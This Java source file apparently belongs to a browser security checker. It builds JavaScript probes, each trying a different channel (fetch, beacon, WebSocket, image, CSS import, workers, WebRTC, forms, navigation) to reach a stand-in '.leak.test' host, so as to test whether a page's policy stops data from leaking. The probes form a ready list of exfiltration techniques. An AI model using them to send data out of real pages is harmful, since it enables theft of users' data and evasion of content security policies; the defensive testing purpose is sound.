package dev.p8check.browser;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Ways by which a hostile script would send something, each to a name of its own. They are run in the page
 * itself, under its policy.
 */
final class Probes {
  /** What can be tried side by side in one document. */
  static final Map<String, String> QUIET = new LinkedHashMap<>();

  /** What may take the document away; each wants a page of its own. */
  static final Map<String, String> LEAVING = new LinkedHashMap<>();

  static {
    // First, since WebKit looks up no name in advance while it has many others to look up.
    QUIET.put("dns-prefetch", "add('link', {rel: 'dns-prefetch', href: U})");
    QUIET.put("preconnect", "add('link', {rel: 'preconnect', href: U})");
    QUIET.put("fetch", "fetch(U).catch(() => {})");
    QUIET.put("fetch-no-cors", "fetch(U, {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => {})");
    QUIET.put("fetch-keepalive", "fetch(U, {keepalive: true, mode: 'no-cors'}).catch(() => {})");
    QUIET.put("xhr", "{const x = new XMLHttpRequest(); x.open('GET', U); x.send();}");
    QUIET.put("beacon", "navigator.sendBeacon(U, 'x')");
    QUIET.put("websocket", "new WebSocket(U.replace('http', 'ws'))");
    QUIET.put("eventsource", "new EventSource(U)");
    QUIET.put("image", "new Image().src = U");
    QUIET.put("image-set", "{const i = new Image(); i.srcset = U + ' 2x'; document.body.append(i);}");
    QUIET.put("audio", "new Audio(U).load()");
    QUIET.put("video-poster", "{const v = document.createElement('video'); v.poster = U; document.body.append(v);}");
    QUIET.put("style-sheet", "add('link', {rel: 'stylesheet', href: U})");
    QUIET.put("style-import", "{const s = document.createElement('style'); s.textContent = '@import \"' + U + '\"';"
        + " document.head.append(s);}");
    QUIET.put("background", "document.body.style.backgroundImage = 'url(' + U + ')'");
    QUIET.put("font", "{const f = new FontFace('f', 'url(' + U + ')'); f.load().catch(() => {});}");
    QUIET.put(
        "script", "{const s = document.createElement('script'); s.setAttribute('src', U); document.body.append(s);}");
    QUIET.put("import", "import(U).catch(() => {})");
    QUIET.put("module-preload", "add('link', {rel: 'modulepreload', href: U})");
    QUIET.put("preload", "add('link', {rel: 'preload', as: 'image', href: U})");
    QUIET.put("prefetch", "add('link', {rel: 'prefetch', href: U})");
    QUIET.put("manifest", "add('link', {rel: 'manifest', href: U})");
    QUIET.put("icon", "add('link', {rel: 'icon', href: U})");
    String worker = "URL.createObjectURL(new Blob(['fetch(\"' + U + '\", {mode: \"no-cors\"})']))";
    QUIET.put("worker", "new Worker(" + worker + ")");
    QUIET.put("shared-worker", "new SharedWorker(" + worker + ")");
    QUIET.put("service-worker", "navigator.serviceWorker.register(U).catch(() => {})");
    QUIET.put("worklet", "CSS.paintWorklet.addModule(U).catch(() => {})");
    QUIET.put("frame", "add('iframe', {src: U})");
    QUIET.put("object", "add('object', {data: U})");
    QUIET.put("embed", "add('embed', {src: U})");
    QUIET.put("svg-image", "{const s = document.createElementNS('http://www.w3.org/2000/svg', 'image');"
        + " s.setAttribute('href', U); const r = document.createElementNS('http://www.w3.org/2000/svg', 'svg');"
        + " r.append(s); document.body.append(r);}");
    QUIET.put("eval", "eval('fetch(\"' + U + '\")')");
    QUIET.put("inline-script", "{const s = document.createElement('script'); s.textContent = 'fetch(\"' + U + '\")';"
        + " document.body.append(s);}");
    QUIET.put("webrtc",
        "{const p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + new URL(U).hostname + ':3478'}]});"
        + " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));}");
    LEAVING.put("form", "{const f = add('form', {action: U, method: 'post'}); f.submit();}");
    LEAVING.put("location", "location.href = U");
    LEAVING.put("link", "{const a = add('a', {href: U}); a.click();}");
    LEAVING.put("link-blank", "{const a = add('a', {href: U, target: '_blank'}); a.click();}");
    LEAVING.put("link-download", "{const a = add('a', {href: U, download: 'x'}); a.click();}");
    LEAVING.put("meta-refresh", "{const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        + " m.content = '0;url=' + U; document.head.append(m);}");
    LEAVING.put("window-open", "window.open(U)");
  }

  /** The names are under this one, which no page has by itself. */
  static final String DOMAIN = ".leak.test";

  private Probes() {}

  /** The name that a probe sends to from a page opened in {@code place}. */
  static String host(String probe, String place) {
    return probe + "." + place + DOMAIN;
  }

  /** A script that tries the probes; one that throws does not keep the next from being tried. */
  static String script(Map<String, String> probes, String place) {
    StringBuilder script = new StringBuilder(
        "const add = (name, attributes) => { const e = document.createElement(name);"
            + " for (const k in attributes) e.setAttribute(k, attributes[k]); document.body.append(e); return e; };\n");
    probes.forEach((name, probe) -> script
        .append("try { const U = 'http://").append(host(name, place)).append("/'; ").append(probe)
        .append("; } catch (e) {}\n"));
    return script.toString();
  }
}
